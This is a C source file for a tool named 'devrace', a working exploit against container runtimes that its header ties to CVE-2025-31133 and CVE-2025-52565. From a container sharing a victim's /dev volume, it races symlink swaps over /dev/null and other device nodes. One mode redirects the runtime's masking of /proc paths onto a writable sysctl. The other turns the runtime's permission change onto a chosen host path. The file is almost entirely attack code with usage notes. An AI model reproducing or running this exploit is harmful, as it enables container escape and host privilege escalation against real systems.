/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Masked paths and device nodes made in a /dev the container controls
 * (CVE-2025-31133 / CVE-2025-52565 class). Runs in a container that shares a
 * volume with the victim, whose /dev that volume is; DIR is where the volume
 * is mounted here.
 *
 *   devrace mask DIR TARGET
 *       Each time the runtime (re)creates DIR/null, let its device set-up
 *       finish, then put a symlink to TARGET (a /proc/sys file, as the victim
 *       will see it after pivot_root) in its place: masking binds "/dev/null"
 *       by path, so the victim's masked /proc files become that sysctl, writable.
 *   devrace chmod DIR TARGET
 *       Swap symlinks to TARGET (a host path: the runtime is still in the
 *       host's root then) over every default device name in DIR, round and
 *       round, to land between the runtime's mknodat() and its fchmodat(),
 *       which follows symlinks. (Blind: reacting to inotify came too late
 *       for those few microseconds far more often.)
 *
 * Both run until killed; mask prints one line per swap.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *const devices[] = {"null", "zero", "full", "random", "urandom", "tty"};

/* Wait for IN_CREATE of name. */
static void wait_create(int in, const char *name)
{
        for (;;) {
                char buf[4096] __attribute__((aligned(8)));
                ssize_t len = read(in, buf, sizeof(buf));
                for (char *p = buf; len > 0 && p < buf + len;) {
                        struct inotify_event *ev = (struct inotify_event *)p;
                        if (ev->len && strcmp(ev->name, name) == 0)
                                return;
                        p += sizeof(*ev) + ev->len;
                }
        }
}

/* Put a symlink to target at name, atomically (rename over what is there). */
static int swap_in(const char *name, const char *target)
{
        char tmp[300];
        snprintf(tmp, sizeof(tmp), ".%s.swap", name);
        if (symlink(target, tmp) < 0 && errno != EEXIST)
                return -1;
        return rename(tmp, name);
}

/* Swap symlinks to target over every default device name, round and round. */
_Noreturn static void chmod_race(const char *target)
{
        for (;;) {
                for (size_t i = 0; i < sizeof(devices) / sizeof(devices[0]); i++) {
                        char tmp[300];
                        snprintf(tmp, sizeof(tmp), ".%s.swap", devices[i]);
                        if (symlink(target, tmp) == 0 || errno == EEXIST)
                                rename(tmp, devices[i]);
                }
        }
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc != 4 || (strcmp(argv[1], "mask") != 0 && strcmp(argv[1], "chmod") != 0)) {
                fprintf(stderr, "usage: devrace mask|chmod DIR TARGET\n");
                return 2;
        }
        const char *target = argv[3];
        if (chdir(argv[2]) < 0) {
                perror(argv[2]);
                return 1;
        }
        if (strcmp(argv[1], "chmod") == 0) {
                printf("watching %s\n", argv[2]);
                chmod_race(target);
        }
        int in = inotify_init1(IN_CLOEXEC);
        if (in < 0 || inotify_add_watch(in, ".", IN_CREATE) < 0) {
                perror("inotify");
                return 1;
        }
        printf("watching %s\n", argv[2]);
        for (;;) {
                wait_create(in, "null");
                usleep(100); /* past the mknodat/fchownat/fchmodat of null */
                int r = swap_in("null", target);
                printf("null -> %s: %s\n", target, r < 0 ? strerror(errno) : "swapped");
        }
}
